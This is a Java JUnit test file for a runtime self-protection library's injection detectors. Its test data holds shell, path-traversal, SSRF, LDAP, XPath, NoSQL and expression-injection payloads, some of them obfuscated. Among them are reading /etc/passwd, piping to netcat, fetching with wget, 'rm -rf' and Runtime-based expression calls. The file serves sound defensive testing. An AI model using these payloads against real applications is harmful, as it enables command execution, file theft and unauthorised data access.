package io.github.raspspring.attack;

import java.net.InetAddress;
import java.util.List;

import io.github.raspspring.attack.command.ProcessCall;
import io.github.raspspring.attack.command.ProcessJudge;
import io.github.raspspring.attack.expression.ExpressionJudge;
import io.github.raspspring.attack.path.FileCall;
import io.github.raspspring.attack.path.FileJudge;
import io.github.raspspring.attack.query.LdapJudge;
import io.github.raspspring.attack.query.NoSqlCall;
import io.github.raspspring.attack.query.NoSqlJudge;
import io.github.raspspring.attack.query.XPathJudge;
import io.github.raspspring.attack.url.OutboundPolicy;
import io.github.raspspring.attack.url.UrlCall;
import io.github.raspspring.attack.url.UrlJudge;
import io.github.raspspring.autoconfigure.FamilyTraits;
import io.github.raspspring.engine.EnforcementMode;
import io.github.raspspring.engine.InputLocation;
import io.github.raspspring.engine.InputValue;
import io.github.raspspring.engine.ValueReader;
import io.github.raspspring.inspect.CanonicalValueReader;
import io.github.raspspring.sink.SinkCall;
import io.github.raspspring.sink.SinkJudge;
import io.github.raspspring.sink.SinkRequests;
import io.github.raspspring.sink.TextCall.Language;
import io.github.raspspring.sink.TextCall;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests of inputs that the application edits before it hands them over: words removed,
 * case changed, ends trimmed, signs replaced. Statements have tests of their own.
 */
class EditedAtSinksTests {

	private static final ValueReader READER = new CanonicalValueReader(FamilyTraits.reader());

	private final SinkRequests requests = new SinkRequests(EnforcementMode.BLOCK);

	/** What a decoder would make of them stands in the text in pieces only. */
	@ParameterizedTest
	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
			'+1-202-555-0123'        ~ echo '+1-202-555-0123'
			'100%25 sure + more'     ~ echo '100%25 sure + more'
			'a+b&amp;c d'            ~ echo 'a+b&amp;c d'
			"x%20y+z 5"              ~ echo "x%20y+z 5"
			'caf%C3%A9 + bar'        ~ printf %s 'caf%C3%A9 + bar'
			'\\x41 + bcdef'          ~ echo '\\x41 + bcdef' > list.txt
			""")
	void judgeWhenInputOccursAsItWasSentThenIsNotTakenForEdited(String input, String script) {
		assertThat(attacks(Kind.SHELL, input, script)).isFalse();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
			a;+ccatat+/etc/passwd    ~ ls a; cat /etc/passwd
			a%3B%20ccatat%20/etc/x   ~ ls a; cat /etc/x
			a &amp;& whoami + x > b  ~ ls a && whoami  x > b
			x|nncc%2010.0.0.1+80     ~ grep x|nc 10.0.0.1 80
			$(wgetget+http://a.b)    ~ ls $(wget http://a.b)
			x`id+-script+a`          ~ echo "x`id -a`"
			""")
	void judgeWhenInputWasDecodedAndEditedThenSeesIt(String input, String script) {
		assertThat(attacks(Kind.SHELL, input, script)).isTrue();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
			SHELL ~ cats; dogs and birds         ~ echo 'cats; dogs  birds' > list.txt
			SHELL ~ tea & coffee, hot            ~ printf '%s' "tea  coffee hot" | lp
			SHELL ~ please convert a file        ~ convert file.png out.png && ls
			SHELL ~ grep for | in a table        ~ cat table.txt | grep x
			SHELL ~ it's (almost) done           ~ echo 'its almost done'; date
			SHELL ~ a > b or b > c               ~ sort a.txt > b.txt
			FILE  ~ notes/../may.txt             ~ /srv/notes/may.txt
			FILE  ~ my ../../ notes              ~ /srv/my notes
			FILE  ~ Report ..2024                ~ /srv/report2024
			FILE  ~ ....txt                      ~ /srv/..txt
			FILE  ~ a/b/../c                     ~ /srv/a/b/c
			FILE  ~ ../notes.txt                 ~ /srv/notes.txt
			URL   ~ see https://a.example/x y    ~ https://a.example/x%20y
			URL   ~ HTTPS://PUBLIC.example/A b   ~ https://public.example/a-b
			URL   ~ books at inventory           ~ http://inventory:8080/books
			URL   ~ 10.0.0.50 and so on          ~ http://10.0.0.5/x
			URL   ~ the vault: a novel           ~ http://vault:8200/books
			URL   ~ localhosts                   ~ http://localhost:8080/x
			LDAP  ~ Jane (Sales) *new*           ~ (&(objectClass=person)(cn=Jane Sales new))
			LDAP  ~ jane & john = team           ~ (&(objectClass=person)(cn=jane  john  team))
			LDAP  ~ staff, object and person     ~ (&(objectClass=person)(ou=staff))
			LDAP  ~ (555) 123-4567               ~ (telephone=\\28555\\29 1234567)
			LDAP  ~ a*b search                   ~ (cn=a\\2ab search)
			LDAP  ~ o'neil (uid)                 ~ (uid=oneil uid)
			XPATH ~ o'reilly and sons            ~ //book[publisher='oreilly and sons']
			XPATH ~ book = title or author       ~ //book[title='book  title or author']
			XPATH ~ what's new, book?            ~ //book[title="whats new book"]
			XPATH ~ [new] dune/messiah           ~ //book[title='new dune messiah']
			XPATH ~ title and author             ~ //book[title='x' and author='y']
			XPATH ~ 5 * 6 books                  ~ //book[price='5  6 books']
			NOSQL ~ dune: "part two", new        ~ {"title": "dune part two new"}
			NOSQL ~ {a} or {b} novels            ~ {"title": "a or b novels"}
			NOSQL ~ title, author: any           ~ {"title": "x", "author": "any"}
			NOSQL ~ $5 or less; new              ~ {"price": "5 or less new"}
			NOSQL ~ [1, 2, 3] books              ~ {"id": [1, 2, 3]}
			NOSQL ~ "quoted" words of mine       ~ {"title": "quoted words of mine"}
			EXPR  ~ cheap (new) books            ~ title == 'cheap new books'
			EXPR  ~ price > 5 euro               ~ price > 7 and title == 'euro'
			EXPR  ~ it's new, mostly             ~ title == 'its new mostly'
			EXPR  ~ title.length, please         ~ title == 'titlelength please'
			EXPR  ~ {a, b} and c                 ~ {'a', 'b'}.contains(title)
			EXPR  ~ what? new: old               ~ stock > 0 ? 'new' : 'old'
			""")
	void judgeWhenWhatIsLeftIsValueThenSafe(Kind kind, String input, String text) {
		assertThat(attacks(kind, input, text)).isFalse();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
			SHELL ~ a; ccatat /etc/passwd        ~ ls a; cat /etc/passwd
			SHELL ~ A && WHOAMI > Out            ~ ls <b>a && whoami > out</b>
			SHELL ~ x|nncc 10.0.0.1 80           ~ grep x|nc 10.0.0.1 80
			SHELL ~ 'x' ; rm -rf 'data'          ~ ls x ; rm -rf data
			SHELL ~ $(wgetget http://a.example)  ~ ls $(wget http://a.example)
			SHELL ~ x`id -script a`              ~ echo "x`id -a`"
			FILE  ~ ....//....//etc/passwd       ~ /srv/../../etc/passwd
			FILE  ~ ..././..././etc/passwd       ~ /srv/../../etc/passwd
			FILE  ~ ....\\\\....\\\\boot.ini         ~ /srv/..\\..\\boot.ini
			FILE  ~ ../../Etc/Shadow             ~ /srv/../../etc/shadow
			FILE  ~ ^ ../../etc/passwd ^         ~ /srv/../../etc/passwd
			FILE  ~ ....//../etc/passwd          ~ /srv/../etc/passwd
			URL   ~ http://LOCALHOST:8080/a b    ~ http://localhost:8080/x
			URL   ~ ^ http://127.0.0.1/a ^       ~ http://127.0.0.1/b?c
			URL   ~ http://[::1]/a|b             ~ http://[0:0:0:0:0:0:0:1]/b
			URL   ~ http://vault:8200/../x       ~ http://vault:8200/y
			URL   ~ 10.0.0.5:8080/x y            ~ http://10.0.0.5:8080/x%20y
			URL   ~ http://10.0.0.5#a            ~ http://10.0.0.5/z
			LDAP  ~ *)(uiuidd=*))(|(uid=*        ~ (&(objectClass=person)(uid=*)(uid=*))(|(uid=*))
			LDAP  ~ X)(OBJECTCLASS=*             ~ (&(uid=<b>x)(objectclass=*</b>))
			LDAP  ~ jane)(|(&xxx(cn=a)           ~ (&(uid=jane)(|(&(cn=a)))
			LDAP  ~ a)(mailmail=*)(cn=b          ~ (&(uid=a)(mail=*)(cn=b))
			LDAP  ~ *)(|script(uid=admin         ~ (&(cn=*)(|(uid=admin))
			LDAP  ~ jane)(!!(cn=zero             ~ (&(uid=jane)(!(cn=zero))
			XPATH ~ x' oorr '1'='1               ~ //user[name='x' or '1'='1']
			XPATH ~ X' OR COUNT(//*)>0 or 'a     ~ //user[name='<i>x' or count(//*)>0 or 'a</i>']
			XPATH ~ x' or scriptname()='a        ~ //user[name='x' or name()='a']
			XPATH ~ '] | //pass//passwords | //a['  ~ //user[name=''] | //passwords | //a['']
			XPATH ~ x' and <b>1=1 or 'b          ~ //user[name='x' and 1=1 or 'b']
			XPATH ~ 1] | //usuer/*[1             ~ //user[1] | //user/*[1]
			NOSQL ~ x", "$nene": "y              ~ {"name": "x", "$ne": "y"}
			NOSQL ~ X", "ADMIN": "true           ~ {"name": "-x", "admin": "true-"}
			NOSQL ~ x", scriptscript"role": "admin ~ {"name": "x", "role": "admin"}
			NOSQL ~ x"}, <b>{"role": "admin      ~ [{"name": "x"}, {"role": "admin"}]
			NOSQL ~ ' || this.pass##word || '    ~ {"$where": "this.name == '' || this.password || ''"}
			NOSQL ~ x'; slsleepeep(5000); '      ~ {"$where": "this.name == 'x'; sleep(5000); ''"}
			EXPR  ~ T(java.lajavang.Runtime)     ~ price > T(java.lang.Runtime)
			EXPR  ~ 1 and ''.getClaclassss()     ~ price > 1 and ''.getClass()
			EXPR  ~ x' + newnew File('a') + 'b   ~ title == 'x' + new File('a') + 'b'
			EXPR  ~ @BEAN.run(<b>'a')            ~ price > @bean.run('a')
			EXPR  ~ a == b or tscriptrue == c()  ~ price > a == b or true == c()
			EXPR  ~ #root.exeexecc('a')          ~ title == #root.exec('a')
			""")
	void judgeWhenWhatIsLeftIsAttackThenSeesIt(Kind kind, String input, String text) {
		assertThat(attacks(kind, input, text)).isTrue();
	}

	private boolean attacks(Kind kind, String input, String text) {
		return switch (kind) {
			case SHELL -> attacks(new ProcessJudge(), new ProcessCall("exec", List.of("sh", "-c", text)), input);
			case FILE ->
				attacks(new FileJudge(FileJudge.EXECUTABLE_EXTENSIONS), new FileCall("read", text, false), input);
			case URL -> attacks(new UrlJudge(OutboundPolicy.defaults()),
					new UrlCall("get", text, (host) -> List.<InetAddress>of()), input);
			case LDAP -> attacks(new LdapJudge(), new TextCall(Language.LDAP_FILTER, text), input);
			case XPATH -> attacks(new XPathJudge(), new TextCall(Language.XPATH, text), input);
			case NOSQL -> attacks(new NoSqlJudge(), new NoSqlCall("find", text), input);
			case EXPR -> attacks(new ExpressionJudge(), new TextCall(Language.EXPRESSION, text), input);
		};
	}

	private <C extends SinkCall> boolean attacks(SinkJudge<C> judge, C call, String input) {
		InputValue value = new InputValue(InputLocation.FORM, "field", input);
		return judge.judge(call, this.requests.inputs(READER, value)) != null;
	}

	enum Kind {

		SHELL, FILE, URL, LDAP, XPATH, NOSQL, EXPR

	}

}
